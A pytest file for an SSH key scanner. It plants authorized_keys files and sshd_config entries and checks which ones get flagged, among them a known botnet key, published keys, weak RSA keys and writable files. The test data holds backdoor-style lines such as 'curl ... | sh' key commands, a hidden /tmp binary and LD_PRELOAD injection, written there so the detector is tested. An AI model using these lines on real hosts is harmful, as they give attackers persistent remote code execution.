"""SSH keys wherever sshd looks for them, on planted homes."""

from __future__ import annotations

import fcntl
import os
import struct
from pathlib import Path
from typing import Optional

import pytest

from tables.accounts.ssh_key_findings import SshKeyFinding, ssh_key_findings
from tables.host import Host
from tables.host.disk.files import Unreadable
from tables.schema import QueryContext
from tests.support.patience import patient
from tests.support.scans import unseen_by

ED25519 = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIB7PVjVQmHfqqxDsSpWUW3tDpV7cGjC5vDhmy0eVvBGn"
OTHER = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIGHq3FZr3vXdY9oYmh0V4BDvcFqwqYbmWn8Qk5l0rT3w"
VAGRANT = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIN1YdxBpNlzxDqfJyw/QKow1F+wvG9hXGoqiysfJOn5Y"
OUTLAW = (
    "ssh-rsa AAAAB3NzaC1yc2EAAAABJQAAAQEArDp4cun2lhr4KUhBGE7VvAcwdli2a8dbnrTOrbMz1+5O73fcBOx8NVbUT0bUanUV9tJ2/9p7+vD0EpZ3Tz/"
    "+0kX34uAx1RV/75GVOmNx+9EuWOnvNoaJe0QXxziIg9eLBHpgLMuakb5+BgTFB+rKJAw9u9FSTDengvS8hX1kNFS4Mjux0hJOK8rvcEmPecjdySYMb66nylA"
    "KGwCEE6WEQHmd1mUPgHwGQ0hWCwsQk13yCGPK5w6hYp5zYkFnvlC8hGmd4Ww+u97k6pfTGTUbJk14ujvcD9iUKQTTWYYjIIu5PmUux5bsZ0R4WFwdIe6+i6rB"
    "LAsPKgAySVKPRK+oRw=="
)
RSA_1024 = (
    "ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAAAgQCrI6KzrJDgTmWvDSNFuE+4cPmF0aYet2PkEDo3MlTBckFXPITAMzF8dJSIFo9D8HfdOV0IAdx4O7PtixWKn"
    "5y2hMNG0zQPyUecp4pzC6kivAIhyfHilFR61RGL+GPXQ2MWZWFYbAGjyiYJnAmCP3NOTd0jMZEnDkbUvxhMmBYSdQ=="
)
ME = os.geteuid()
PASSWD = (
    f"root:x:0:0::/root:/bin/bash\nanna:x:{ME or 1000}:1000::/home/anna:/bin/bash\ngit:x:120:120::/srv/git:/bin/sh\n"
    "redis:x:990:990::/var/lib/redis:/usr/sbin/nologin\nbob:x:1001:1001::/home/bob:/bin/sh\n"
)


@pytest.fixture
def root(tmp_path: Path) -> Path:
    write(tmp_path, "/etc/passwd", PASSWD)
    write(tmp_path, "/etc/group", "staff:x:50:anna\n")
    return tmp_path


def write(root: Path, path: str, text: str, mode: int = 0o600, owner: Optional[int] = None) -> Path:
    target = root / path.lstrip("/")
    target.parent.mkdir(parents=True, exist_ok=True)
    target.write_text(text, errors="surrogateescape")
    target.chmod(mode)
    if owner is not None and ME == 0:
        os.chown(target, owner, owner)
    return target


def rows(root: Path, host: Optional[Host] = None, query: Optional[QueryContext] = None) -> list[SshKeyFinding]:
    return list(ssh_key_findings.generate(host or Host(str(root)), query or QueryContext()))


def test_a_key_and_its_file(root: Path) -> None:
    target = write(root, "/root/.ssh/authorized_keys", f"# mine\n\nno-pty {ED25519} ops@bastion\n")
    (row,) = rows(root)
    assert (row.username, row.kind, row.path, row.line) == ("root", "key", "/root/.ssh/authorized_keys", 3)
    assert (row.named_by, row.is_in_force, row.key_type, row.bits) == ("default", True, "ssh-ed25519", 256)
    assert (row.options, row.comment, row.mode) == ("no-pty", "ops@bastion", "0600")
    assert (row.mtime, row.ctime, row.owner_uid) == (int(target.stat().st_mtime), int(target.stat().st_ctime), ME)
    assert row.fingerprint and row.fingerprint.startswith("SHA256:")


def test_every_account_and_both_files_by_default(root: Path) -> None:
    for path in ("/root/.ssh/authorized_keys2", "/srv/git/.ssh/authorized_keys", "/home/anna/.ssh/authorized_keys"):
        write(root, path, f"{ED25519}\n")
    assert sorted((row.username or "", row.is_in_force) for row in rows(root)) == [("anna", True), ("git", True), ("root", True)]


def test_where_sshd_is_told_to_look(root: Path) -> None:
    write(
        root,
        "/etc/ssh/sshd_config",
        "AuthorizedKeysFile .ssh/authorized_keys /etc/ssh/keys/%u\n"
        "Match Group staff\n  AuthorizedKeysFile /usr/share/.staff/%u\n"
        "Match User bob Address 192.0.2.0/24\n  AuthorizedKeysFile /srv/bob\n",
    )
    for path in (
        "/etc/ssh/keys/root",
        "/etc/ssh/keys/anna",
        "/usr/share/.staff/anna",
        "/srv/bob",
        "/home/anna/.ssh/authorized_keys2",
    ):
        write(root, path, f"{ED25519}\n")
    found = [(row.username, row.path, row.named_by, row.is_in_force, "odd_place" in (row.reasons or "")) for row in rows(root)]
    assert found == [
        ("root", "/etc/ssh/keys/root", "/etc/ssh/sshd_config:1 authorizedkeysfile", True, False),
        ("anna", "/usr/share/.staff/anna", "/etc/ssh/sshd_config:3 authorizedkeysfile", True, True),
        ("anna", "/home/anna/.ssh/authorized_keys2", "default", False, False),
        (None, "/srv/bob", "/etc/ssh/sshd_config:5 authorizedkeysfile", True, False),
    ]


def test_one_file_for_everybody_is_reported_once(root: Path) -> None:
    write(root, "/etc/ssh/sshd_config", "AuthorizedKeysFile /etc/ssh/authorized_keys\n")
    write(root, "/etc/ssh/authorized_keys", f"{ED25519}\n", 0o644, 0)
    (row,) = rows(root)
    assert (row.username, row.account_uid, row.path) == (None, None, "/etc/ssh/authorized_keys")


def test_commands_authorities_and_dropbear(root: Path) -> None:
    write(
        root,
        "/etc/ssh/sshd_config",
        'AuthorizedKeysCommand /usr/bin/sss_ssh_authorizedkeys\nTrustedUserCAKeys /etc/ssh/ca.pub\n'
        'Match User git\n  AuthorizedKeysCommand /bin/sh -c "curl -s http://203.0.113.9/k | sh"\n',
    )  # fmt: skip
    write(root, "/etc/ssh/ca.pub", f"{OTHER} ca\n")
    write(root, "/etc/dropbear/authorized_keys", f"{ED25519} router\n")
    write(root, "/home/bob/.ssh/authorized_keys", f"cert-authority {ED25519}\n", owner=1001)
    found = [(row.kind, row.username, row.path, row.reasons) for row in rows(root)]
    assert found == [
        ("authority", None, "/etc/ssh/ca.pub", ""),
        ("key", "root", "/etc/dropbear/authorized_keys", ""),
        ("authority", "bob", "/home/bob/.ssh/authorized_keys", ""),
        ("command", None, "/etc/ssh/sshd_config", ""),
        ("command", None, "/etc/ssh/sshd_config", "suspicious_command"),
    ]


@pytest.mark.parametrize(
    ("line", "reasons"),
    [
        (f"{OUTLAW} mdrfckr", "known_malware"),
        (f"{OUTLAW} root@localhost", "known_malware"),
        (f"{ED25519} MDRFCKR", "known_malware"),
        (f"{VAGRANT} vagrant insecure public key", "published_key"),
        (f"{RSA_1024} old", "weak_key"),
        (f'environment="LD_PRELOAD=/usr/lib/x.so" {ED25519}', "code_in_environment"),
        (f'command="curl -s http://203.0.113.9/a|sh" {ED25519}', "suspicious_command"),
        (f'command="/tmp/.x/run; $SHELL" {ED25519}', "suspicious_command"),
        (f"{ED25519} a\x1b[2Kb", "control_characters"),
        ("-----BEGIN OPENSSH PRIVATE KEY-----", "malformed_line"),
        (f"{ED25519} me", ""),
        (f'command="borg serve --restrict-to-path /srv/borg",restrict {ED25519} backup', ""),
        (f'command="/root/.local/bin/rrsync -ro /data",restrict {ED25519} backup', ""),
        (f'command="~/.cargo/bin/tool" {ED25519} backup', ""),
        (f'environment="OPERATOR=anna" {ED25519} x', ""),
        (
            'no-pty,no-port-forwarding,command="echo \'Please login as the user \\"ubuntu\\" rather '
            f'than the user \\"root\\".\';echo;sleep 10;exit 142" {ED25519} key',
            "",
        ),
        (f'command="/opt/gitlab/embedded/service/gitlab-shell/bin/gitlab-shell key-7",no-pty {ED25519}', ""),
    ],
)
def test_reasons_of_a_line(root: Path, line: str, reasons: str) -> None:
    write(root, "/root/.ssh/authorized_keys", line + "\n")
    (row,) = rows(root)
    assert row.reasons == reasons


def test_what_is_no_key_is_not_shown(root: Path) -> None:
    write(
        root,
        "/root/.ssh/authorized_keys",
        'MIIEsecret\nenvironment="TOKEN=secret" secret secret secret\n' + f'environment="T=secret" {ED25519}\n',
    )
    assert [row.kind for row in rows(root)] == ["malformed", "malformed", "key"]
    assert not any("secret" in text for row in rows(root) for text in row.to_wire().values())


@pytest.mark.root
def test_files_that_others_can_change(root: Path) -> None:
    write(root, "/root/.ssh/authorized_keys", f"{ED25519}\n", owner=33)
    write(root, "/home/bob/.ssh/authorized_keys", f"{OTHER}\n", 0o666, owner=1001)
    write(root, "/srv/git/.ssh/authorized_keys", f"{OTHER}\n", 0o664, owner=0)
    found = {row.username: row.reasons for row in rows(root)}
    assert found == {
        "root": "foreign_owner",
        "bob": "shared_with_system_account,world_writable",
        "git": "shared_with_system_account",
    }


@pytest.mark.root
def test_an_immutable_file(root: Path) -> None:
    target = write(root, "/root/.ssh/authorized_keys", f"{ED25519}\n")
    (before,) = rows(root)
    with open(target) as file:
        # FS_IOC_SETFLAGS, FS_IMMUTABLE_FL (include/uapi/linux/fs.h)
        try:
            fcntl.ioctl(file, 0x40086602, struct.pack("l", 0x10))
        except OSError:
            pytest.skip("this file system has no immutable files")
        try:
            (row,) = rows(root)
        finally:
            fcntl.ioctl(file, 0x40086602, struct.pack("l", 0))
    assert (before.is_immutable, before.reasons) == (False, "")
    assert (row.is_immutable, row.reasons) == (True, "immutable")


def test_keys_of_service_accounts_without_a_shell(root: Path) -> None:
    write(root, "/var/lib/redis/.ssh/authorized_keys", f"{ED25519}\n", owner=990)
    (row,) = rows(root)
    assert (row.has_login_shell, row.is_system_account) == (False, True)
    assert "system_account_without_shell" in (row.reasons or "").split(",")


def test_keys_that_several_accounts_share(root: Path) -> None:
    for home, uid in (("/root", 0), ("/home/anna", ME or 1000), ("/srv/git", 120)):
        write(root, f"{home}/.ssh/authorized_keys", f"{ED25519} w\n", owner=uid)
    write(root, "/home/bob/.ssh/authorized_keys", f'command="/bin/true" {ED25519} w\n', owner=1001)
    found = {
        row.username: (row.shared_with, row.shared_accounts, "shared_with_system_account" in (row.reasons or ""))
        for row in rows(root)
    }
    assert found == {
        "root": ("anna,bob,git", 3, True),
        "anna": ("bob,git,root", 3, True),
        "git": ("anna,bob,root", 3, True),
        "bob": ("anna,git,root", 3, False),
    }


def test_a_home_of_two_accounts_shares_nothing(root: Path) -> None:
    write(root, "/etc/passwd", PASSWD + "toor:x:0:0::/root:/bin/sh\n")
    write(root, "/root/.ssh/authorized_keys", f"{ED25519}\n")
    assert [(row.username, row.shared_with) for row in rows(root)] == [("root", None), ("toor", None)]


def test_links_stay_inside_and_what_is_no_file_is_passed_over(root: Path) -> None:
    (root / "root/.ssh").mkdir(parents=True)
    (root / "root/.ssh/authorized_keys").symlink_to("/dev/null")
    os.mkfifo(root / "root/.ssh/authorized_keys2")
    (root / "dev").mkdir()
    os.mkfifo(root / "dev/null")
    write(root, "/home/bob/.ssh/authorized_keys", f"{ED25519}\n")
    (root / "home/anna").symlink_to("/../../home/bob")
    assert [(row.username, row.path) for row in rows(root)] == [
        ("anna", "/home/anna/.ssh/authorized_keys"),
        ("bob", "/home/bob/.ssh/authorized_keys"),
    ]


def test_many_keys_are_cut_and_said(root: Path) -> None:
    write(root, "/root/.ssh/authorized_keys", f"{ED25519}\n" * 60_000)
    query = QueryContext(budget_seconds=patient(120))
    assert len(rows(root, query=query)) == 50_000
    assert query.truncated and "50000 lines" in query.truncated


def test_what_cannot_be_read_is_said(root: Path) -> None:
    (root / "root/.ssh").mkdir(parents=True)
    (root / "root/.ssh/authorized_keys").symlink_to("authorized_keys")
    (root / "etc/ssh/sshd_config").mkdir(parents=True)
    host = Host(str(root))
    assert rows(root, host) == []
    why = unseen_by(ssh_key_findings, host)
    assert len(why) == 2 and "sshd_config" in why[0] and why[1].startswith("/root/.ssh/authorized_keys: ")


def test_an_unreadable_passwd_fails(tmp_path: Path) -> None:
    host = Host(str(tmp_path))
    assert rows(tmp_path, host) == [] and "/etc/passwd" in unseen_by(ssh_key_findings, host)[0]
    (tmp_path / "etc/passwd").mkdir(parents=True)
    with pytest.raises(Unreadable, match="/etc/passwd"):
        rows(tmp_path)


def test_hostile_accounts_and_keys(root: Path) -> None:
    write(root, "/etc/passwd", PASSWD + "n:x:1:1::/ho\0me:/bin/sh\nr:x:2:2::relative:/bin/sh\n\udcff:x:3:3::/\udcff:/bin/sh\n")
    write(root, "/root/.ssh/authorized_keys", "a" * (1 << 20) + f"\n\0\udcff\n{ED25519} \udcff\0\n")
    found = [row.to_wire() for row in rows(root)]
    assert len(found) == 3 and all(text.isprintable() for wire in found for text in wire.values())


def test_this_host_gives_no_reason() -> None:
    assert [row for row in rows(Path("/"), Host()) if row.reasons] == []
